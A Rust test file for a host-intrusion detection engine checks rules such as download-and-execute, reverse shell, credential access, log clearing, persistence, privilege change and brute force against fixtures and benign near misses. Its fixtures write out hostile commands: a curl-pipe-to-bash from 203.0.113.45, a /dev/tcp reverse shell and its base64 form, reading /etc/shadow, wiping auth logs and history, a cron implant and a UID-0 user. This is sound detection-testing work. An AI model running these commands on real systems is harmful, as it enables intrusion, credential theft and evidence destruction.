//! Tests of the event rules: each rule's positive and near-miss cases, the benign and
//! intrusion corpora, and the seed report's export.

use super::*;
use dossier_events::{Format, Peer, Process, Source};
use std::collections::BTreeMap as Map;

#[test]
fn host_keys_fold_case_and_domain_but_not_addresses() {
    assert_eq!(host_key("WAZUH1.x0r.internal.cloudapp.net"), "wazuh1");
    assert_eq!(host_key("web1"), "web1");
    assert_eq!(host_key("10.0.5.5"), "10.0.5.5");
}

// ---------------------------------------------------------------- event builders

fn event(host: &str, time: &str, format: Format, table: &str, action: &str) -> Event {
    Event {
        time: time.to_string(),
        host: host.to_string(),
        source: Source {
            format,
            table: Some(table.to_string()),
        },
        action: action.to_string(),
        process: None,
        parent: None,
        script: None,
        user: None,
        peer: None,
        local: None,
        file: None,
        file_sha256: None,
        outcome: Some("success".into()),
        fields: Map::new(),
        origin: Origin {
            file: "test".into(),
            record: "line 1".into(),
        },
    }
}

fn proc(pid: u32, ppid: u32, exe: &str, cmd: &str, user: &str) -> Process {
    Process {
        pid: Some(pid),
        ppid: Some(ppid),
        name: Some(exe.rsplit('/').next().unwrap_or(exe).to_string()),
        exe: Some(exe.to_string()),
        command_line: Some(cmd.to_string()),
        sha256: None,
        user: Some(user.to_string()),
    }
}

/// An audit `execve` of `cmd` by `exe` (`tty` "(none)" unless at a terminal).
fn exec(time: &str, pid: u32, ppid: u32, exe: &str, cmd: &str, user: &str, tty: &str) -> Event {
    let mut e = event("web1", time, Format::Audit, "SYSCALL", "execve");
    e.process = Some(proc(pid, ppid, exe, cmd, user));
    e.user = Some(user.to_string());
    e.file = Some(exe.to_string());
    e.fields.insert("tty".into(), tty.into());
    e
}

/// An audit syscall on a file.
fn file_op(
    action: &str,
    pid: u32,
    exe: &str,
    cmd: &str,
    user: &str,
    path: &str,
    nametype: &str,
) -> Event {
    let mut e = event(
        "web1",
        "2026-11-20T02:00:00.000Z",
        Format::Audit,
        "SYSCALL",
        action,
    );
    e.process = Some(proc(pid, 1, exe, cmd, user));
    e.user = Some(user.to_string());
    e.file = Some(path.to_string());
    e.fields.insert("path_nametype".into(), nametype.into());
    e.fields.insert("key".into(), "watch".into());
    e
}

/// A Defender `ProcessCreated` row: `created` started by `init`.
fn created(time: &str, created: Process, init: Process, grandparent: &str) -> Event {
    let mut e = event(
        "db1.corp.example.com",
        time,
        Format::DefenderCsv,
        "DeviceProcessEvents",
        "ProcessCreated",
    );
    e.user = created.user.clone();
    e.process = Some(created);
    e.parent = Some(init);
    e.fields
        .insert("InitiatingProcessParentFileName".into(), grandparent.into());
    e
}

fn logon(time: &str, action: &str, user: &str, addr: &str) -> Event {
    let mut e = event(
        "db1",
        time,
        Format::DefenderCsv,
        "DeviceLogonEvents",
        action,
    );
    e.user = Some(user.into());
    e.outcome = Some(
        if action == "LogonSuccess" {
            "success"
        } else {
            "failure"
        }
        .into(),
    );
    e.peer = Some(Peer {
        addr: Some(addr.into()),
        port: Some(40000),
        protocol: None,
    });
    e.process = Some(proc(790, 1, "/usr/sbin/sshd", "sshd: [listener]", "root"));
    e
}

fn connection(exe: &str, addr: &str, port: u16) -> Event {
    let mut e = event(
        "db1",
        "2026-11-20T02:36:05Z",
        Format::DefenderCsv,
        "DeviceNetworkEvents",
        "ConnectionSuccess",
    );
    e.process = Some(proc(417023, 417020, exe, exe, "deploy"));
    e.peer = Some(Peer {
        addr: Some(addr.into()),
        port: Some(port),
        protocol: Some("tcp".into()),
    });
    e
}

fn run(events: &[Event]) -> EventAnalysis {
    analyze_events(events)
}

/// The alerts of `rule`.
fn of<'a>(a: &'a EventAnalysis, rule: &str) -> Vec<&'a EventAlert> {
    a.alerts.iter().filter(|x| x.rule == rule).collect()
}

fn one(events: &[Event], rule: &str) -> EventAlert {
    let a = run(events);
    let found = of(&a, rule);
    assert_eq!(found.len(), 1, "{rule}: {:#?}", a.alerts);
    found[0].clone()
}

fn none(events: &[Event], rule: &str) {
    let a = run(events);
    assert!(of(&a, rule).is_empty(), "{rule}: {:#?}", of(&a, rule));
}

const T: &str = "2026-11-20T02:10:03.000Z";

// ---------------------------------------------------------------- rules, one by one

#[test]
fn download_exec_and_its_near_miss() {
    let a = one(
        &[exec(
            T,
            30101,
            880,
            "/usr/bin/dash",
            "sh -c curl -fsSL http://203.0.113.45/x.sh | bash",
            "www-data",
            "(none)",
        )],
        "event-download-exec",
    );
    assert_eq!(a.severity, Severity::High);
    assert!(a.indicators.contains(&Ioc::Address("203.0.113.45".into())));
    assert!(
        a.explanation.contains("bare IP address"),
        "{}",
        a.explanation
    );
    // Downloading to a file without running it is not download-and-execute.
    none(
        &[exec(
            T,
            1,
            0,
            "/usr/bin/curl",
            "curl -fsSL -o /var/cache/app/feed.json https://example.com/feed.json",
            "root",
            "(none)",
        )],
        "event-download-exec",
    );
}

#[test]
fn reverse_shell_command_and_connection_fold_on_the_address() {
    let cmd = "bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1";
    let mut conn = connection("/usr/bin/bash", "203.0.113.45", 4444);
    conn.host = "web1".into();
    let a = one(
        &[
            exec(T, 30110, 30103, "/usr/bin/bash", cmd, "www-data", "(none)"),
            conn,
        ],
        "event-reverse-shell",
    );
    assert_eq!(a.severity, Severity::Critical);
    assert_eq!((a.subject.as_str(), a.count), ("203.0.113.45", 2));
    // A shell talking to a private address (a local service through a wrapper) and a
    // socat port forward are not reverse shells.
    none(
        &[connection("/usr/bin/bash", "10.0.6.21", 5432)],
        "event-reverse-shell",
    );
    none(
        &[exec(
            T,
            1,
            0,
            "/usr/bin/socat",
            "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
            "root",
            "(none)",
        )],
        "event-reverse-shell",
    );
}

#[test]
fn encoded_command_is_decoded_and_judged_again() {
    let cmd =
        "bash -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNDUvNDQ0NCAwPiYx | base64 -d | bash";
    let a = one(
        &[exec(T, 5, 1, "/usr/bin/bash", cmd, "root", "(none)")],
        "event-encoded-command",
    );
    assert_eq!(a.severity, Severity::Critical, "{}", a.explanation);
    assert!(a.explanation.contains("/dev/tcp/203.0.113.45/4444"));
    // Encoding a backup is not running a payload.
    none(
        &[exec(
            T,
            5,
            1,
            "/usr/bin/bash",
            "bash -c tar czf - /etc | base64 > /var/backups/etc.b64",
            "root",
            "(none)",
        )],
        "event-encoded-command",
    );
}

#[test]
fn credential_access_by_cat_not_by_sshd() {
    let a = one(
        &[
            exec(
                T,
                30170,
                30141,
                "/usr/bin/cat",
                "cat /etc/shadow",
                "root",
                "(none)",
            ),
            file_op(
                "openat",
                30170,
                "/usr/bin/cat",
                "cat /etc/shadow",
                "root",
                "/etc/shadow",
                "NORMAL",
            ),
        ],
        "event-credential-access",
    );
    assert_eq!((a.severity, a.count), (Severity::High, 2));
    assert_eq!(a.techniques, ["T1003.008"]);
    none(
        &[
            file_op(
                "openat",
                812,
                "/usr/sbin/sshd",
                "sshd: alice [priv]",
                "root",
                "/etc/shadow",
                "NORMAL",
            ),
            file_op(
                "openat",
                813,
                "/usr/sbin/unix_chkpwd",
                "unix_chkpwd alice nullok",
                "root",
                "/etc/shadow",
                "NORMAL",
            ),
            exec(T, 9, 1, "/usr/bin/ls", "ls -l /etc/shadow", "root", "pts0"),
        ],
        "event-credential-access",
    );
    // A program calling itself sshd from /tmp is not sshd.
    one(
        &[file_op(
            "openat",
            814,
            "/tmp/.x/sshd",
            "/tmp/.x/sshd",
            "root",
            "/etc/shadow",
            "NORMAL",
        )],
        "event-credential-access",
    );
}

#[test]
fn discovery_burst_needs_five_kinds_from_one_parent() {
    let cmds = [
        "id",
        "uname -a",
        "cat /etc/passwd",
        "ps aux",
        "ss -tlnp",
        "ip a",
    ];
    let burst: Vec<Event> = cmds
        .iter()
        .enumerate()
        .map(|(i, c)| {
            exec(
                &format!("2026-11-20T02:11:{:02}.000Z", 30 + i * 4),
                30120 + i as u32,
                30110,
                "/usr/bin/true",
                c,
                "www-data",
                "(none)",
            )
        })
        .collect();
    let a = one(&burst, "event-discovery-burst");
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.count, 6);
    assert!(a.evidence.len() >= 5);
    // Four kinds, or the same five spread over an hour, are not a burst.
    none(&burst[..4], "event-discovery-burst");
    let slow: Vec<Event> = cmds
        .iter()
        .enumerate()
        .map(|(i, c)| {
            exec(
                &format!("2026-11-20T0{}:00:00.000Z", 2 + i),
                30120 + i as u32,
                30110,
                "/usr/bin/true",
                c,
                "www-data",
                "(none)",
            )
        })
        .collect();
    none(&slow, "event-discovery-burst");
    // At a terminal it is Low.
    let mut tty = burst.clone();
    for e in &mut tty {
        e.process.as_mut().unwrap().user = Some("alice".into());
        e.user = Some("alice".into());
        e.fields.insert("tty".into(), "pts0".into());
    }
    assert_eq!(one(&tty, "event-discovery-burst").severity, Severity::Low);
}

#[test]
fn log_clearing_but_not_rotation() {
    let a = run(&[
        exec(
            T,
            1,
            0,
            "/usr/bin/truncate",
            "truncate -s0 /var/log/auth.log",
            "root",
            "(none)",
        ),
        exec(
            T,
            2,
            0,
            "/usr/bin/rm",
            "rm -f /root/.bash_history",
            "root",
            "(none)",
        ),
        exec(
            T,
            3,
            0,
            "/usr/bin/bash",
            "bash -c history -c",
            "root",
            "(none)",
        ),
    ]);
    let found = of(&a, "event-log-clearing");
    assert_eq!(found.len(), 3, "{found:#?}");
    assert!(found.iter().all(|x| x.severity == Severity::High));
    none(
        &[
            file_op(
                "rename",
                31002,
                "/usr/sbin/logrotate",
                "/usr/sbin/logrotate /etc/logrotate.conf",
                "root",
                "/var/log/auth.log",
                "DELETE",
            ),
            file_op(
                "unlink",
                31010,
                "/usr/bin/gzip",
                "/bin/gzip",
                "root",
                "/var/log/syslog.2",
                "DELETE",
            ),
            exec(
                T,
                4,
                0,
                "/usr/bin/find",
                "find /var/log/app -name *.gz -mtime +30 -delete",
                "root",
                "(none)",
            ),
        ],
        "event-log-clearing",
    );
    // A logrotate from /tmp is no logrotate.
    one(
        &[file_op(
            "unlink",
            31003,
            "/tmp/logrotate",
            "/tmp/logrotate",
            "root",
            "/var/log/auth.log",
            "DELETE",
        )],
        "event-log-clearing",
    );
}

#[test]
fn persistence_write_severity_follows_writer_and_content() {
    let bad = one(
        &[exec(
            T,
            30150,
            30141,
            "/usr/bin/bash",
            "bash -c echo '* * * * * root /tmp/.x/syncd' > /etc/cron.d/syncd",
            "root",
            "(none)",
        )],
        "event-persistence-write",
    );
    assert_eq!(bad.severity, Severity::High);
    assert!(bad.indicators.contains(&Ioc::Path("/tmp/.x/syncd".into())));
    assert!(
        bad.indicators
            .contains(&Ioc::CronCommand("* * * * * root /tmp/.x/syncd".into()))
    );
    let mut dpkg = file_op(
        "openat",
        40212,
        "/usr/bin/dpkg",
        "/usr/bin/dpkg --unpack sysstat.deb",
        "root",
        "/etc/cron.d/sysstat",
        "CREATE",
    );
    dpkg.fields.remove("key");
    let routine = one(&[dpkg], "event-persistence-write");
    assert_eq!(routine.severity, Severity::Info);
    // A binary called dpkg in /tmp is no package manager.
    let fake = one(
        &[file_op(
            "openat",
            40213,
            "/tmp/dpkg",
            "/tmp/dpkg",
            "root",
            "/etc/cron.d/sysstat",
            "CREATE",
        )],
        "event-persistence-write",
    );
    assert_eq!(fake.severity, Severity::High);
    // Reading a crontab is no write.
    none(
        &[file_op(
            "openat",
            611,
            "/usr/sbin/cron",
            "/usr/sbin/cron -f",
            "root",
            "/etc/crontab",
            "NORMAL",
        )
        .tap(|e| {
            e.fields.remove("key");
        })],
        "event-persistence-write",
    );
}

#[test]
fn privilege_changes() {
    let a = one(
        &[exec(
            T,
            7,
            1,
            "/usr/sbin/useradd",
            "useradd -o -u 0 -g 0 toor",
            "root",
            "(none)",
        )],
        "event-privilege-change",
    );
    assert_eq!(a.severity, Severity::Critical);
    let suid = one(
        &[exec(
            T,
            8,
            1,
            "/usr/bin/chmod",
            "chmod u+s /tmp/.x/sh",
            "root",
            "(none)",
        )],
        "event-privilege-change",
    );
    assert_eq!(suid.severity, Severity::High);
    let admin = one(
        &[exec(
            T,
            9,
            1,
            "/usr/sbin/useradd",
            "useradd -m carol",
            "root",
            "pts0",
        )],
        "event-privilege-change",
    );
    assert_eq!(admin.severity, Severity::Low);
    none(
        &[
            exec(
                T,
                10,
                1,
                "/usr/bin/chmod",
                "chmod 755 /usr/local/bin/tool",
                "root",
                "pts0",
            ),
            exec(
                T,
                11,
                1,
                "/usr/sbin/usermod",
                "usermod -aG docker alice",
                "root",
                "pts0",
            ),
        ],
        "event-privilege-change",
    );
}

#[test]
fn logon_from_a_new_source_only_against_a_baseline() {
    let a = one(
        &[
            logon(
                "2026-11-20T01:00:00Z",
                "LogonSuccess",
                "deploy",
                "10.0.5.30",
            ),
            logon(
                "2026-11-20T02:35:10Z",
                "LogonSuccess",
                "deploy",
                "198.51.100.7",
            ),
        ],
        "event-logon-new-source",
    );
    assert_eq!(a.severity, Severity::Medium);
    none(
        &[
            // The first logon sets the baseline; the same /24 is not new.
            logon("2026-11-20T01:00:00Z", "LogonSuccess", "dba", "10.0.5.20"),
            logon("2026-11-20T03:00:00Z", "LogonSuccess", "dba", "10.0.5.21"),
        ],
        "event-logon-new-source",
    );
}

fn failures(n: usize, addr: &str) -> Vec<Event> {
    (0..n)
        .map(|i| {
            logon(
                &format!(
                    "2026-11-20T02:{:02}:{:02}Z",
                    30 + (i * 8) / 60,
                    (i * 8) % 60
                ),
                "LogonFailed",
                ["root", "admin", "oracle"][i % 3],
                addr,
            )
        })
        .collect()
}

#[test]
fn brute_force_then_success() {
    let mut evs = failures(33, "198.51.100.7");
    let a = one(&evs, "event-brute-force");
    assert_eq!((a.severity, a.count), (Severity::Medium, 33));
    assert!(
        a.techniques.contains(&"T1110.003"),
        "three accounts tried: spraying"
    );
    evs.push(logon(
        "2026-11-20T02:35:10Z",
        "LogonSuccess",
        "deploy",
        "198.51.100.7",
    ));
    let r = run(&evs);
    assert!(
        of(&r, "event-brute-force").is_empty(),
        "superseded by the success"
    );
    let s = of(&r, "event-brute-force-success");
    assert_eq!((s.len(), s[0].severity), (1, Severity::High));
    // Nine failures (a fumbling user), or a success from another address, raise nothing.
    let mut few = failures(9, "10.0.5.10");
    few.push(logon(
        "2026-11-20T02:35:10Z",
        "LogonSuccess",
        "alice",
        "10.0.5.10",
    ));
    none(&few, "event-brute-force");
    none(&few, "event-brute-force-success");
    let mut other = failures(12, "198.51.100.7");
    other.push(logon(
        "2026-11-20T02:35:10Z",
        "LogonSuccess",
        "deploy",
        "10.0.5.30",
    ));
    none(&other, "event-brute-force-success");
}

#[test]
fn exec_unusual_location_but_not_a_build() {
    let init = proc(
        417020,
        417010,
        "/usr/bin/bash",
        "bash -c wget http://203.0.113.45/x.sh -O /tmp/.x/syncd; chmod +x /tmp/.x/syncd; /tmp/.x/syncd",
        "deploy",
    );
    let evs = [
        created(
            "2026-11-20T02:36:00Z",
            init.clone(),
            proc(417010, 417001, "/usr/bin/bash", "-bash", "deploy"),
            "sshd",
        ),
        created(
            "2026-11-20T02:36:02Z",
            proc(417023, 417020, "/tmp/.x/syncd", "/tmp/.x/syncd", "deploy"),
            init,
            "bash",
        ),
    ];
    let a = one(&evs, "event-exec-unusual-location");
    assert_eq!(
        a.severity,
        Severity::High,
        "downloaded on this host: {}",
        a.explanation
    );
    // A test binary cargo built and runs in /tmp.
    let cargo = proc(
        60010,
        60000,
        "/home/ci/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo",
        "cargo test",
        "ci",
    );
    none(
        &[
            exec(
                T,
                60010,
                60000,
                cargo.exe.as_deref().unwrap(),
                "cargo test",
                "ci",
                "(none)",
            ),
            exec(
                T,
                60020,
                60010,
                "/tmp/ci-1/target/debug/deps/core-3f2a",
                "/tmp/ci-1/target/debug/deps/core-3f2a",
                "ci",
                "(none)",
            ),
        ],
        "event-exec-unusual-location",
    );
    // A "cargo" in /tmp builds nothing: it and what it runs are reported.
    let r = run(&[
        exec(
            T,
            60011,
            60000,
            "/tmp/.c/cargo",
            "cargo test",
            "ci",
            "(none)",
        ),
        exec(
            T,
            60021,
            60011,
            "/tmp/ci-1/target/debug/deps/core-3f2a",
            "/tmp/ci-1/target/debug/deps/core-3f2a",
            "ci",
            "(none)",
        ),
    ]);
    assert!(
        of(&r, "event-exec-unusual-location")
            .iter()
            .any(|x| x.subject == "/tmp/ci-1/target/debug/deps/core-3f2a")
    );
}

#[test]
fn c2_connection_by_port_and_place() {
    let a = one(
        &[connection("/tmp/.x/syncd", "203.0.113.45", 4444)],
        "event-c2-connection",
    );
    assert_eq!(a.severity, Severity::High);
    assert_eq!(
        one(
            &[connection("/tmp/.x/syncd", "203.0.113.45", 443)],
            "event-c2-connection"
        )
        .severity,
        Severity::Medium
    );
    none(
        &[connection("/usr/bin/curl", "203.0.113.45", 4444)],
        "event-c2-connection",
    );
    none(
        &[connection("/tmp/.x/syncd", "127.0.0.1", 4444)],
        "event-c2-connection",
    );
}

#[test]
fn routine_scripts_are_info_but_a_fake_sa1_is_not() {
    let mut sa1 = event(
        "db1",
        T,
        Format::DefenderCsv,
        "DeviceEvents",
        "ScriptContent",
    );
    sa1.process = Some(proc(
        414203,
        611,
        "/usr/bin/dash",
        "/bin/sh /usr/lib/sysstat/sa1 1 1",
        "root",
    ));
    sa1.script = Some("#!/bin/sh\nexec /usr/lib/sysstat/sadc -F -L 1 1 /var/log/sysstat\n".into());
    let a = one(&[sa1.clone()], "event-system-monitoring");
    assert_eq!(a.severity, Severity::Info);
    let mut fake = sa1;
    fake.process = Some(proc(
        414204,
        611,
        "/usr/bin/dash",
        "/bin/sh /tmp/sa1 1 1",
        "root",
    ));
    let r = run(&[fake]);
    assert!(of(&r, "event-system-monitoring").is_empty());
    assert_eq!(of(&r, "event-exec-unusual-location").len(), 1);
}

#[test]
fn what_descends_from_the_intrusion_is_judged_as_such() {
    // deploy's shell (10) runs a downloaded implant, then `sudo -i` (20) and a root shell
    // (21) writes a unit whose content the record does not show.
    let shell = proc(10, 1, "/usr/bin/bash", "-bash", "deploy");
    let sudo = proc(20, 10, "/usr/bin/sudo", "sudo -i", "deploy");
    let root = proc(21, 20, "/usr/bin/bash", "-bash", "root");
    let write = |t: &str| {
        let mut e = event(
            "db1",
            t,
            Format::DefenderCsv,
            "DeviceFileEvents",
            "FileCreated",
        );
        e.process = Some(root.clone());
        e.parent = Some(Process {
            pid: Some(20),
            name: Some("sudo".into()),
            ..Process::default()
        });
        e.user = Some("root".into());
        e.file = Some("/etc/systemd/system/syncd.service".into());
        e
    };
    let mut evs = vec![
        created(
            "2026-11-20T02:36:58Z",
            proc(
                11,
                10,
                "/usr/bin/wget",
                "wget http://203.0.113.45/x.sh -O /tmp/.x/syncd",
                "deploy",
            ),
            shell.clone(),
            "sshd",
        ),
        created(
            "2026-11-20T02:37:05Z",
            proc(12, 10, "/tmp/.x/syncd", "/tmp/.x/syncd", "deploy"),
            shell.clone(),
            "sshd",
        ),
        created("2026-11-20T02:38:21Z", sudo.clone(), shell.clone(), "sshd"),
        created("2026-11-20T02:38:22Z", root.clone(), sudo.clone(), "bash"),
        write("2026-11-20T02:38:47Z"),
    ];
    let r = run(&evs);
    // Fetch, chmod and run over several commands is download-and-execute.
    assert_eq!(
        of(&r, "event-download-exec")[0].subject,
        "http://203.0.113.45/x.sh"
    );
    let unit = of(&r, "event-persistence-write");
    assert_eq!(unit[0].severity, Severity::High, "{}", unit[0].explanation);
    assert!(unit[0].explanation.contains("process of the intrusion"));
    // The same write from a session that did nothing wrong is Medium.
    evs.drain(..2);
    let clean = one(&evs, "event-persistence-write");
    assert_eq!(clean.severity, Severity::Medium);
}

#[test]
fn sudo_by_a_service_account() {
    let mut cmd = event("web1", T, Format::Audit, "USER_CMD", "USER_CMD");
    cmd.process = Some(proc(
        24140,
        0,
        "/usr/bin/sudo",
        "find . -exec /bin/sh -p ; -quit",
        "uid=33",
    ));
    cmd.user = Some("www-data".into());
    let a = one(&[cmd.clone()], "event-privilege-change");
    assert_eq!(
        (a.severity, a.subject.as_str()),
        (Severity::High, "www-data")
    );
    // An administrator's sudo is not a privilege change.
    cmd.user = Some("alice".into());
    none(&[cmd], "event-privilege-change");
}

// ---------------------------------------------------------------- driver

trait Tap {
    fn tap(self, f: impl FnOnce(&mut Self)) -> Self;
}

impl Tap for Event {
    fn tap(mut self, f: impl FnOnce(&mut Self)) -> Self {
        f(&mut self);
        self
    }
}

#[test]
fn repeats_fold_with_bounded_evidence_and_sorted_output() {
    let mut evs = Vec::new();
    for i in 0..50u32 {
        evs.push(exec(
            &format!("2026-11-20T02:{:02}:00.000Z", i),
            100 + i,
            1,
            "/usr/bin/truncate",
            "truncate -s0 /var/log/auth.log",
            "root",
            "(none)",
        ));
    }
    evs.push(exec(
        "2026-11-20T01:00:00.000Z",
        99,
        1,
        "/usr/sbin/useradd",
        "useradd -o -u 0 toor",
        "root",
        "(none)",
    ));
    let a = run(&evs);
    assert_eq!(a.alerts.len(), 2);
    assert_eq!(a.alerts[0].severity, Severity::Critical);
    let wipe = &a.alerts[1];
    assert_eq!((wipe.count, wipe.evidence.len()), (50, MAX_EVIDENCE));
    assert_eq!(
        (wipe.first_time.as_str(), wipe.last_time.as_str()),
        ("2026-11-20T02:00:00.000Z", "2026-11-20T02:49:00.000Z")
    );
    assert_eq!(run(&evs), a, "deterministic");
}

// ---------------------------------------------------------------- corpora

fn corpus(name: &str) -> Vec<Event> {
    let path = format!("{}/tests/data/events/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{path}: {e}"))
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{path}: {e}: {l}")))
        .collect()
}

#[test]
fn benign_day_stays_quiet() {
    let events = corpus("benign_day.jsonl");
    assert!(events.len() >= 600, "{}", events.len());
    let a = run(&events);
    assert!(a.devices.len() >= 3, "{:?}", a.devices.keys());
    let loud: Vec<_> = a
        .alerts
        .iter()
        .filter(|x| x.severity > Severity::Low)
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
    assert!(a.alert_ratio() < 0.02, "ratio {}", a.alert_ratio());
    // The seed's routine kinds are accounted for, as Info.
    for rule in ["event-system-monitoring", "event-agent-inventory"] {
        assert!(
            of(&a, rule).iter().all(|x| x.severity == Severity::Info) && !of(&a, rule).is_empty(),
            "{rule}"
        );
    }
}

#[test]
fn intrusion_story_raises_each_step() {
    let a = run(&corpus("intrusion.jsonl"));
    let expect = [
        (
            "web1",
            "event-download-exec",
            Severity::High,
            "http://203.0.113.45/x.sh",
        ),
        (
            "web1",
            "event-reverse-shell",
            Severity::Critical,
            "203.0.113.45",
        ),
        (
            "web1",
            "event-persistence-write",
            Severity::High,
            "/etc/cron.d/syncd",
        ),
        (
            "web1",
            "event-credential-access",
            Severity::High,
            "/etc/shadow",
        ),
        (
            "web1",
            "event-log-clearing",
            Severity::High,
            "/var/log/auth.log",
        ),
        (
            "web1",
            "event-log-clearing",
            Severity::High,
            "/root/.bash_history",
        ),
        (
            "web1",
            "event-log-clearing",
            Severity::High,
            "shell history of root",
        ),
        (
            "web1",
            "event-exec-unusual-location",
            Severity::High,
            "/tmp/.x/syncd",
        ),
        (
            "web1",
            "event-c2-connection",
            Severity::High,
            "203.0.113.45",
        ),
        (
            "db1",
            "event-brute-force-success",
            Severity::High,
            "198.51.100.7",
        ),
        (
            "db1",
            "event-download-exec",
            Severity::High,
            "http://203.0.113.45/x.sh",
        ),
        (
            "db1",
            "event-exec-unusual-location",
            Severity::High,
            "/tmp/.x/syncd",
        ),
        ("db1", "event-c2-connection", Severity::High, "203.0.113.45"),
        (
            "db1",
            "event-persistence-write",
            Severity::High,
            "/etc/systemd/system/syncd.service",
        ),
        (
            "db1",
            "event-persistence-write",
            Severity::High,
            "/home/deploy/.ssh/authorized_keys",
        ),
    ];
    for (host, rule, sev, subject) in expect {
        let found = a
            .alerts
            .iter()
            .find(|x| host_key(&x.host) == host && x.rule == rule && x.subject == subject);
        let Some(found) = found else {
            panic!(
                "{host} {rule} {subject} missing: {:#?}",
                a.alerts
                    .iter()
                    .map(|x| (&x.host, x.rule, &x.subject))
                    .collect::<Vec<_>>()
            );
        };
        assert_eq!(found.severity, sev, "{host} {rule} {subject}");
    }
    // The shared indicators show on both hosts.
    for host in ["web1", "db1"] {
        let iocs: Vec<&Ioc> = a
            .alerts
            .iter()
            .filter(|x| host_key(&x.host) == host)
            .flat_map(|x| &x.indicators)
            .collect();
        assert!(
            iocs.contains(&&Ioc::Address("203.0.113.45".into())),
            "{host}"
        );
        assert!(iocs.contains(&&Ioc::Path("/tmp/.x/syncd".into())), "{host}");
    }
    assert!(a.alerts.iter().any(|x| x.indicators.contains(&Ioc::Sha256(
        "b904a02bfbae3d692f6f2bd4a64170aff4fd7b7e7b92fed5293af10f6218e794".into()
    ))));
    // The background stays Info.
    for x in a
        .alerts
        .iter()
        .filter(|x| matches!(x.rule, "event-system-monitoring" | "event-agent-inventory"))
    {
        assert_eq!(x.severity, Severity::Info);
    }
    let worst: Vec<Severity> = a.alerts.iter().map(|x| x.severity).collect();
    assert!(worst.windows(2).all(|w| w[0] >= w[1]), "sorted by severity");
}

#[test]
fn seed_report_export_is_routine() {
    let path = format!(
        "{}/../events/tests/data/defender/seed001_script_content.csv",
        env!("CARGO_MANIFEST_DIR")
    );
    let file = std::fs::File::open(&path).unwrap();
    let mut events = Vec::new();
    dossier_events::parse(
        "seed001_script_content.csv",
        file,
        None,
        &Default::default(),
        &mut |r| {
            events.push(r.expect("the seed export parses"));
        },
    )
    .unwrap();
    assert_eq!(events.len(), 5);
    let a = run(&events);
    assert!(!a.alerts.is_empty());
    for x in &a.alerts {
        assert!(x.severity <= Severity::Low, "{x:#?}");
    }
    assert_eq!(a.devices.len(), 1);
}
